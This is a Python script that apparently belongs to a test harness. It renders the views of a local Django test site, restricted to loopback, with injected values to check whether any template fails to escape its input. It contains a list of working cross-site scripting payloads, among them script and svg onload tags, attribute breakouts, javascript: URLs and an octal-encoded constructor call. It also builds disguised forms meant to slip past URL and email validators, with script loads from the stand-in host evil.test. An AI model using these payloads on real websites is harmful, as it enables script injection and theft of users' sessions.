"""Renders every place with attacks.

    python places.py SETTINGS

Runs in the directory of the site of testdata/places. Reads [{"name", "kind", "template"}, …], the template with all that stands beside it, and prints a JSON list of the
same length:

    [{"pages": [{"id": 17, "attack": "<script>…", "html": "…"}],    the pages, one for each attack that the site took
      "problem": ""}]                                               why the place says nothing

An attack is a text that, where it is not held, runs top.ran(17), or loads a script or style sheet from //evil.test/17/. Each is sent
as it is, and where the site refuses it in the forms in which it may be taken for an address, a mail address or a path.
Where all are refused a harmless value shows that the place is a page at all. Pages that differ from one before in
their number only are left out."""

import itertools
import json
import os
import re
import sys
from urllib.parse import unquote

import loopback

loopback.only()
out, sys.stdout = sys.stdout, sys.stderr
os.environ["DJANGO_SETTINGS_MODULE"] = sys.argv[1]
sys.path.insert(0, os.getcwd())

import django

django.setup()

from board import kinds
from django.apps import apps
from django.core.exceptions import SuspiciousOperation, ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.http import Http404
from django.test import RequestFactory
from django.urls import NoReverseMatch, resolve, reverse

# RUN is the call, ID the page's number. In front of each stands where it is of use: a pattern of the template's text or the kind's
# name. The commonest come first: a place is done with when one has run.
SCRIPT = r"<script|\bon\w+=|javascript|srcdoc"
ADDRESS = r"\b(href|src|srcset|imagesrcset|action|formaction|data|content|cite|ping|poster|background|codebase)\s*=|@import|url\("
ATTACKS = [
    ("", "<script>RUN</script>"),
    ("", """-->'"></title></textarea></noscript></style></iframe></xmp></noembed></noframes></template></script>]]><svg onload=RUN>"""),
    ("", """x' onmouseover='RUN' y" onmouseover="RUN"""),
    ("", "x onmouseover=RUN// y"),
    ("", "onmouseover=RUN"),
    ("", "&lt;img src=x onerror=RUN&gt;"),
    (r"<\w*\{", "img src=x onerror=RUN\n"),
    (r"<\w*\{", "svg/onload=RUN/"),
    (ADDRESS, "javascript:RUN//"),
    (ADDRESS, "JaVaScRiPt:RUN//"),
    (ADDRESS, "script:RUN//"),
    (ADDRESS, "//evil.test/ID/"),
    (ADDRESS, "http://evil.test/ID/"),
    (ADDRESS, "evil.test/ID/"),
    (ADDRESS, ".evil.test/ID/"),
    ("refresh", "0;url=javascript:RUN"),
    (SCRIPT, "'-RUN-'"),
    (SCRIPT, '"-RUN-"'),
    (SCRIPT, "RUN"),
    (SCRIPT, "${RUN}"),
    (SCRIPT, "x/;RUN//"),
    (SCRIPT, "x\nRUN//"),
    (SCRIPT, "*/RUN/*"),
    (SCRIPT, ";RUN//\\"),
    (SCRIPT, "\\'-RUN//"),
    ("document.write|innerHTML", "\\x3cimg src=x onerror=RUN\\x3e"),
    (r"\{\{[^\n]*\{\{", "-RUN)//\\"),
    (r"\{\{[^\n]*\{\{", ",a:RUN}//\\"),
    ("upper|title|capfirst|shout", "<svg onload=ENTITIES>"),
    ("upper|title|capfirst|shout", "x onmouseover=OCTAL y"),
    ("route_str", "<svg onload=RUN>"),
    ("route_str", "javascript:RUN"),
    ("urlize", 'http://x.test/"onmouseover="RUN'),
    ("strip", "<<b>script>RUN<</b>/script>"),
    ("strip", "<img src=x onerror=RUN x"),
    ("marked_down", "[x](javascript:RUN)"),
]

HARMLESS = ["7", "red", "Ann", "http://example.com/", "/about/", "ann@example.com", "2026-01-02", "192.0.2.1", "on",
            "c9a646d3-9c61-4cb7-bfcd-ee2522c8f633", "1.5"]

numbers = itertools.count(10000)


def written(attack, number):
    """The attack for a page: ENTITIES and OCTAL are RUN without letters, for where they change their case."""
    run = f"top.ran({number})"
    octal = lambda text: "".join(f"\\{ord(c):o}" for c in text)
    entities = "".join(f"&#{ord(c)};" for c in run)
    call = f"[]['{octal('filter')}']['{octal('constructor')}']('{octal(run)}')()"
    for name, text in [("RUN", run), ("ID", number), ("ENTITIES", entities), ("OCTAL", call)]:
        attack = attack.replace(name, text)
    return attack


def forms(attack):
    """The attack and the disguises in which validators may take it."""
    yield attack
    tight = re.sub(r"\s", "/", attack)
    yield "http://evil.test/" + attack
    yield "http://evil.test/" + tight
    yield '"' + re.sub(r'[\s"\\]', lambda m: "\\" + m[0], attack) + '"@evil.test'
    yield re.sub(r"top\.ran\((\d+)\)", r"top.ran`\1`", attack) + "@evil.test"
    yield "/" + attack


def page(place, value):
    """The HTML of the place with a value; None where the site refuses it."""
    kind = place["kind"]
    factory = RequestFactory(headers={"host": "127.0.0.1"})
    keys = ["v", "w", "title", "body", "link", "email", "slug", "count", "day", "colour"]
    if kind == "item":
        data = {"slug": "a-slug", "count": "7", "day": "2026-01-02", "colour": "red", "v": value}
    else:
        data = dict.fromkeys(keys, value)
    try:
        if write := getattr(kinds, "write_" + kind, None):
            write(factory.get("/write/", data))
        args = [value] if kind.startswith("route_") else []
        match = resolve(unquote(reverse(place["name"].replace(":", "_"), args=args)))
        if kind.startswith("upload_"):
            request = factory.post("/" + match.route, {"v": SimpleUploadedFile(value.replace("\n", " "), b"x")})
        else:
            request = factory.get("/" + match.route, data)
        return match.func(request, *match.args, **match.kwargs).content.decode()
    except (Http404, SuspiciousOperation, ValueError, ValidationError, NoReverseMatch):
        return None


def render(place):
    pages, seen = [], set()
    for fits, attack in ATTACKS:
        if not re.search(fits, place["template"] + place["kind"], re.IGNORECASE):
            continue
        number = str(next(numbers))
        for value in forms(written(attack, number)):
            html = page(place, value)
            if html is not None:
                plain = re.sub(r"&#\d+;|(\\\d+)+", "", html.replace(number, "")) if "ENTITIES" in attack or "OCTAL" in attack else html.replace(number, "")
                if plain not in seen:
                    seen.add(plain)
                    pages.append({"id": int(number), "attack": value, "html": html})
                break
    for value in HARMLESS:
        if pages:
            break
        html = page(place, value)
        if html is not None:
            pages.append({"id": next(numbers), "attack": value, "html": html})
    return pages


def main():
    with connection.schema_editor() as editor:
        for app in ("contenttypes", "auth", "board"):
            for model in apps.get_app_config(app).get_models():
                editor.create_model(model)
    told = []
    for place in json.load(sys.stdin):
        try:
            pages, problem = render(place), ""
            if not pages:
                problem = "the site refuses every value"
        except Exception as e:
            pages, problem = [], f"{type(e).__name__}: {e}"
        told.append({"pages": pages, "problem": problem})
    json.dump(told, out)


main()
